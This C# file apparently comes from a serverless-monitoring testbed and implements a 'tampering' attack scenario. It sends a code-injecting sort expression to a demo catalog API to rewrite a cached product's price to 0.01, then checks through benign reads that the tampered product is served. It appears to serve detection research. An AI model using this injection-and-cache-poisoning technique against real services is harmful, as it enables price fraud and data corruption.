using System.Diagnostics;
using System.Text.Json;

namespace FaaSMon.Workload;

/// <summary>
/// Tampering: a catalog sort expression, run as code inside product-catalog-api, rewrites the warm product cache so that
/// p-cam-001 costs 0.01 and the cache never expires. A later benign read of p-cam-001 is the victim; verified when that read
/// returns this run's tampering marker.
/// </summary>
internal sealed class TamperingAttack : IAttackScenario
{
    /// <summary>
    /// The catalog API runs several replicas (two in stack.yml), each with its own /tmp, and the injection reached one of
    /// them: reads go round-robin among benign traffic, so a few are needed before one lands on the tampered replica.
    /// </summary>
    private const int VictimReads = 8;

    /// <summary>The injected write is deferred 200 ms inside the function; leave it ample time before the first read.</summary>
    private static readonly TimeSpan SettleTime = TimeSpan.FromSeconds(1);

    private static readonly TimeSpan BetweenReads = TimeSpan.FromMilliseconds(300);

    public string Family => AttackFamily.Tampering;

    public int GatedSteps => 2;

    public async Task<AttackOutcome> RunAsync(AttackRun run, CancellationToken ct)
    {
        var environment = run.Environment;
        await run.ReachStepAsync(0, ct);
        environment.Gateway.RegisterTampering(run.Nonce, run.AttackId);
        var trigger = await run.SendMaliciousAsync(
            GatewayRequest.Get(
                HelloRetail.CatalogApi,
                $"/products?category={AttackPayloads.VictimCategory}&sort={Uri.EscapeDataString(AttackPayloads.TamperingSort(run.Nonce))}"),
            AttackStep.Trigger,
            ct);
        var injected = Stopwatch.GetTimestamp();

        await run.ReachStepAsync(1, ct);
        var settle = SettleTime - Stopwatch.GetElapsedTime(injected);
        if (settle > TimeSpan.Zero)
        {
            await Task.Delay(settle, ct);
        }

        var reads = new List<string>();
        for (var read = 1; read <= VictimReads; read++)
        {
            var victim = await run.SendBenignAsync(
                GatewayRequest.Get(HelloRetail.CatalogApi, $"/products/{AttackPayloads.VictimProduct}"), AttackStep.Victim, ct);
            if (victim.IsSuccess && victim.Json() is { ValueKind: JsonValueKind.Object } product
                && product.TryGetProperty("tampered", out var marker) && marker.ValueKind == JsonValueKind.String
                && marker.GetString() == run.Nonce)
            {
                var price = product.TryGetProperty("price", out var p) ? p.ToString() : "?";
                return run.Outcome(
                    true,
                    $"benign read {read} of {AttackPayloads.VictimProduct} returned the tampered product (price {price}, tampered {run.Nonce}) " +
                    $"from the warm cache of the replica the injection reached; the injection answered {trigger}");
            }

            reads.Add(victim.ToString());
            await Task.Delay(BetweenReads, ct);
        }

        return run.Outcome(false, $"{VictimReads} reads of {AttackPayloads.VictimProduct} never returned the tampered product (answers: {string.Join(", ", reads)}); the injection answered {trigger}");
    }
}
